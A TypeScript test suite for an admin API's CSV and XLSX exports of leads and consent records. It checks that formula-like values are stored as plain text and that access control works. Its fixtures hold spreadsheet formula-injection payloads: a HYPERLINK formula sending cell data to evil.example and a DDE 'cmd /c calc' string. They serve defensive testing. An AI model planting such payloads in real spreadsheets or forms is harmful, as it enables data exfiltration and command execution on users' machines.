import type { Database, DatabaseHandle } from '@corp/api/db';
import { consentRecords, diskFileStore, leadDeliveries, leads } from '@corp/api/db';
import { openTestDatabase } from '@corp/api/db/testing';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import Fastify from 'fastify';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import type { AdminUser } from '@corp/api/core';
import { handleApiError } from '@corp/api/core';
import { exportRoutes } from './export-routes';
import type { ExportRoutesOptions } from './export-routes';
import { consentCsvColumns } from './consents-csv';
import { leadCsvColumns } from './leads-csv';

/** Signed in as sales (the session hook's part, which these tests leave out). */
const SALES: AdminUser = {
  id: '99999999-9999-4999-8999-999999999999',
  login: 'marketing',
  name: 'Marketing',
  role: 'sales',
  sites: [],
  locales: [],
};
const LEAD_ID = '00000000-0000-4000-8000-0000000000a1';
const OTHER_ID = '00000000-0000-4000-8000-0000000000a2';
const CREATED = '2026-01-02T03:04:05.678Z';
const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Open")';
/** Values a spreadsheet would read as formulas, which the CSV must keep byte for byte. */
const lead = {
  phone: '+77912345678',
  email: '-a@b.c',
  position: HYPERLINK,
  company: '@SUM(1+1)*cmd|"/c calc"!A0',
  comment: '  two spaces, then an emoji 😀 and a tab\there  ',
};

/** Every file of a zip (stored or deflated), by name: what an .xlsx is. */
function unzip(zip: Buffer): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  for (let i = 0; i < count; i++) {
    expect(zip.readUInt32LE(at)).toBe(0x02014b50);
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const skip = nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(start, start + size);
    files.set(name, method === 8 ? inflateRawSync(data) : Buffer.from(data));
    at += 46 + skip;
  }
  return files;
}

/** The `<c>` elements of a sheet's XML: reference, attributes and inner XML. */
function cellsOf(sheetXml: string) {
  return [...sheetXml.matchAll(/<c r="([A-Z]+)(\d+)"([^>]*?)(?:\/>|>(.*?)<\/c>)/g)].map(
    ([, column, row, attributes, inner]) => ({
      ref: `${column}${row}`,
      row: Number(row),
      type: /\st="([^"]+)"/.exec(attributes ?? '')?.[1],
      inner: inner ?? '',
    }),
  );
}

/** The workbook as exceljs reads it back: each row's cells by header, as values. */
async function readBack(payload: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map((value) => textOf(value));
  const rows: Record<string, ExcelJS.Cell>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const byName: Record<string, ExcelJS.Cell> = {};
    header.forEach((name, index) => (byName[name] = row.getCell(index + 1)));
    rows.push(byName);
  });
  return { sheet, header, rows };
}

function textOf(value: unknown): string {
  if (value && typeof value === 'object' && 'richText' in value) {
    return (value as { richText: { text: string }[] }).richText.map((run) => run.text).join('');
  }
  return String(value ?? '');
}

describe(`exports (${process.env.TEST_DATABASE_URL ? 'PostgreSQL' : 'PGlite'})`, () => {
  let handle: DatabaseHandle;
  let uploadsDir: string;
  const apps: ReturnType<typeof Fastify>[] = [];

  function build(overrides: Partial<ExportRoutesOptions> = {}, user: AdminUser | null = SALES) {
    const app = Fastify();
    app.setErrorHandler(handleApiError);
    app.decorateRequest('adminUser', null);
    app.addHook('onRequest', async (request) => {
      request.adminUser = user;
    });
    app.register(exportRoutes, {
      prefix: '/admin/api',
      db: handle.db,
      files: diskFileStore(uploadsDir),
      now: () => new Date('2026-03-04T22:30:00Z'),
      ...overrides,
    });
    apps.push(app);
    return app;
  }
  const get = (url: string, app = build()) => app.inject({ method: 'GET', url });

  beforeAll(async () => {
    handle = await openTestDatabase();
    uploadsDir = mkdtempSync(path.join(tmpdir(), 'exports-'));
    await handle.db.insert(leads).values([
      {
        id: LEAD_ID,
        type: 'contact',
        page: '/contacts/',
        locale: 'ru',
        email: lead.email,
        createdAt: sql`${CREATED}::timestamptz`,
        fields: { firstName: 'Анна', lastName: 'Петрова', ...lead },
      },
      {
        id: OTHER_ID,
        type: 'subscribe',
        locale: 'en',
        email: 'sub@example.com',
        createdAt: sql`'2026-01-03T00:00:00Z'::timestamptz`,
        fields: { email: 'sub@example.com' },
      },
    ]);
    await handle.db
      .insert(leadDeliveries)
      .values([{ leadId: LEAD_ID, target: 'webhook', status: 'dead', attempts: 8 }]);
    await handle.db.insert(consentRecords).values({
      fingerprint: HYPERLINK,
      cookieList: 'required',
      host: 'corp.example',
      locale: 'ru',
      createdAt: sql`${CREATED}::timestamptz`,
    });
  });

  afterEach(async () => {
    await Promise.all(apps.splice(0).map((app) => app.close()));
  });

  afterAll(async () => {
    await handle?.close();
    if (uploadsDir) rmSync(uploadsDir, { recursive: true, force: true });
  });

  describe('CSV, for machines', () => {
    it('keeps +7… phones, -… e-mails and formula-like text byte for byte (RFC 4180 quoting only)', async () => {
      const response = await get('/admin/api/leads.csv');
      expect(response.statusCode).toBe(200);
      const text = response.rawPayload.toString('utf8');
      const record = text.split('\r\n').find((line) => line.includes(LEAD_ID)) as string;
      expect(record).toContain(`,${lead.email},`);
      expect(record).toContain(`,${lead.phone},`);
      expect(record).toContain(`,"${HYPERLINK.replace(/"/g, '""')}",`);
      expect(record).toContain(`,"${lead.company.replace(/"/g, '""')}",`);
      expect(record).toContain(`,"${lead.comment}",`);
      expect(record).not.toContain(`'`);
      expect(record.startsWith(`${CREATED},${LEAD_ID},contact,`)).toBe(true);
    });

    it('keeps a consent fingerprint that looks like a formula as it is', async () => {
      const text = (await get('/admin/api/consents.csv')).rawPayload.toString('utf8');
      expect(text).toContain(`,"${HYPERLINK.replace(/"/g, '""')}",required,corp.example,ru\r\n`);
    });
  });

  describe('XLSX, for people', () => {
    it('sends the leads as an attachment that is not cached', async () => {
      const response = await get('/admin/api/leads.xlsx');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="leads-2026-03-04.xlsx"',
      );
      expect(response.headers['cache-control']).toBe('no-store');
    });

    it('has no formula anywhere: every text is an inline string cell, numbers and dates are numbers', async () => {
      const files = unzip((await get('/admin/api/leads.xlsx')).rawPayload);
      const sheetXml = files.get('xl/worksheets/sheet1.xml')?.toString('utf8') ?? '';
      expect(sheetXml).toContain('<sheetData>');
      expect(sheetXml).not.toMatch(/<f[\s>/]/);
      expect(files.has('xl/sharedStrings.xml')).toBe(false);
      const cells = cellsOf(sheetXml);
      expect(cells.length).toBeGreaterThan(leadCsvColumns.length * 2);
      for (const cell of cells) {
        // A number or a date (a number with a date format), or an empty styled cell.
        if (cell.type === undefined) expect(cell.inner).toMatch(/^(<v>-?[\d.E+-]+<\/v>)?$/);
        else expect(cell.type).toBe('inlineStr');
      }
      // The formula-like values are text inside inline strings, escaped as XML text.
      expect(sheetXml).toContain(
        '<t>=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;Open&quot;)</t>',
      );
      expect(sheetXml).toContain('<t>+77912345678</t>');
      expect(sheetXml).toContain('<t>-a@b.c</t>');
    });

    it('reads back, through exceljs, as typed cells holding the stored values', async () => {
      const { header, rows } = await readBack((await get('/admin/api/leads.xlsx')).rawPayload);
      expect(header).toEqual(
        leadCsvColumns.map((name) => (name === 'created_at' ? 'created_at (UTC)' : name)),
      );
      const row = rows.find((candidate) => textOf(candidate['id']?.value) === LEAD_ID);
      if (!row) throw new Error('the lead is not in the workbook');
      for (const [column, value] of Object.entries({ ...lead, firstName: 'Анна' })) {
        const cell = row[column] as ExcelJS.Cell;
        expect([column, cell.type]).toEqual([column, ExcelJS.ValueType.RichText]);
        expect([column, textOf(cell.value)]).toEqual([column, value]);
        expect(cell.formula).toBeUndefined();
        expect(cell.numFmt).toBe('@');
      }
      const created = row['created_at (UTC)'] as ExcelJS.Cell;
      expect(created.type).toBe(ExcelJS.ValueType.Date);
      expect(created.numFmt).toBe('yyyy-mm-dd hh:mm:ss');
      // A spreadsheet date is a count of days: equal to the millisecond, give or take rounding.
      expect(Math.abs((created.value as Date).getTime() - Date.parse(CREATED))).toBeLessThan(2);
      expect(row['webhook_attempts']?.type).toBe(ExcelJS.ValueType.Number);
      expect(row['webhook_attempts']?.value).toBe(8);
      // An empty value is an empty cell, not an empty string.
      expect(row['event']?.type).toBe(ExcelJS.ValueType.Null);
      expect(rows.map((candidate) => textOf(candidate['id']?.value))).toEqual([LEAD_ID, OTHER_ID]);
    });

    it('gives every record page after page, the same rows whatever the page size', async () => {
      for (const csvPageSize of [1, 2]) {
        const { rows } = await readBack(
          (await get('/admin/api/leads.xlsx', build({ csvPageSize }))).rawPayload,
        );
        expect(rows.map((row) => textOf(row['id']?.value))).toEqual([LEAD_ID, OTHER_ID]);
      }
    });

    it('exports the consents the same way: a formula-like fingerprint is a string cell', async () => {
      const response = await get('/admin/api/consents.xlsx');
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="consents-2026-03-04.xlsx"',
      );
      const sheetXml =
        unzip(response.rawPayload).get('xl/worksheets/sheet1.xml')?.toString('utf8') ?? '';
      expect(sheetXml).not.toMatch(/<f[\s>/]/);
      const { header, rows } = await readBack(response.rawPayload);
      expect(header).toEqual(
        consentCsvColumns.map((name) => (name === 'created_at' ? 'created_at (UTC)' : name)),
      );
      expect(rows).toHaveLength(1);
      const [row] = rows;
      expect(row?.['fingerprint']?.type).toBe(ExcelJS.ValueType.RichText);
      expect(textOf(row?.['fingerprint']?.value)).toBe(HYPERLINK);
      expect(row?.['id']?.type).toBe(ExcelJS.ValueType.Number);
      expect(row?.['created_at (UTC)']?.type).toBe(ExcelJS.ValueType.Date);
    });

    it('answers a failing database with the uniform 500, not a broken workbook', async () => {
      const broken = {
        select: () => {
          throw new Error('connection refused');
        },
      } as unknown as Database;
      for (const url of ['/admin/api/leads.xlsx', '/admin/api/consents.xlsx']) {
        const response = await get(url, build({ db: broken }));
        expect(response.statusCode).toBe(500);
        expect(response.headers['content-disposition']).toBeUndefined();
        expect(response.json()).toMatchObject({ code: 'internal_error' });
      }
    });

    it('needs a signed-in administrator or sales user', async () => {
      const anonymous = await get('/admin/api/leads.xlsx', build({}, null));
      expect(anonymous.statusCode).toBe(401);
      const editor = { ...SALES, role: 'editor' as const, sites: ['main'], locales: ['en'] };
      expect((await get('/admin/api/leads.xlsx', build({}, editor))).statusCode).toBe(403);
      const admin = { ...SALES, role: 'admin' as const };
      expect((await get('/admin/api/leads.xlsx', build({}, admin))).statusCode).toBe(200);
    });
  });
});
